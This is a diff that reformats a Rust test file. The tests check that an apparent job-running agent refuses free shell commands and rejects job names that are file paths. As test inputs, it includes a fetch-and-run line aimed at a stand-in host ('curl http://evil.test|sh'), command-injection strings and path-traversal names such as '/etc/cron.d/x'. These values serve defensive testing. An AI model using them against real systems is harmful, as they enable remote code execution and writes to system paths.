@@ -10,7 +10,8 @@ const UUID: &str = "6b02e835e4c90";
 
 #[test]
 fn de_01_a_free_command_does_not_run_whatever_comes_first_in_the_path() {
-    for exec in ["curl http://evil.test|sh", "sh -c id", "touch {folder}/a; id", "touch {folder}/$(id)", "/bin/sh", ""] {
+    for exec in ["curl http://evil.test|sh", "sh -c id", "touch {folder}/a; id", "touch {folder}/$(id)", "/bin/sh", ""]
+    {
         let managed = Managed::new(TOUCH);
         let canary = managed.path("canary");
         let bin = managed.path("bin");
@@ -29,7 +30,10 @@ fn de_01_a_free_command_does_not_run_whatever_comes_first_in_the_path() {
         let lines = managed.server.told();
         assert!(lines.last().unwrap().contains("ko: "), "{exec}: {lines:?}");
         if !exec.is_empty() {
-            assert!(lines.iter().any(|line| line.contains("refused: free command; ask the owner for a template")), "{exec}: {lines:?}");
+            assert!(
+                lines.iter().any(|line| line.contains("refused: free command; ask the owner for a template")),
+                "{exec}: {lines:?}"
+            );
         }
     }
 }
@@ -37,7 +41,9 @@ fn de_01_a_free_command_does_not_run_whatever_comes_first_in_the_path() {
 #[test]
 fn de_01_twin_a_command_that_the_owner_spells_out_runs() {
     let managed = Managed::new(TOUCH);
-    managed.server.deploys(&Package::new(UUID).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
+    managed
+        .server
+        .deploys(&Package::new(UUID).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
     let told = managed.round();
     assert!(managed.path("a").exists(), "{told}");
     assert_eq!(managed.server.told().last().map(String::as_str), Some("ok: job successfully completed"));
@@ -47,7 +53,9 @@ fn de_01_twin_a_command_that_the_owner_spells_out_runs() {
 fn de_03_a_job_whose_name_is_a_path_is_not_done() {
     for uuid in ["../../../tmp/x", "/etc/cron.d/x", "6b02e835e4c90/../..", "..", "6b02e835e4c90\u{0}", "AAAAAAAA"] {
         let managed = Managed::new(TOUCH);
-        managed.server.deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
+        managed
+            .server
+            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
         let told = managed.round();
         assert!(told["what"].as_str().unwrap().contains("without a uuid that is one"), "{uuid:?}: {told}");
         assert!(!managed.path("a").exists(), "{uuid:?}");
@@ -62,7 +70,9 @@ fn de_03_a_job_whose_name_is_a_path_is_not_done() {
 fn de_03_twin_names_as_servers_give_them_are_names() {
     for uuid in ["6b02e835e4c90", "0b6f2c1e-7d43-4b1e-9a55-0123456789ab"] {
         let managed = Managed::new(TOUCH);
-        managed.server.deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
+        managed
+            .server
+            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
         managed.round();
         assert!(managed.path("a").exists(), "{uuid}");
     }
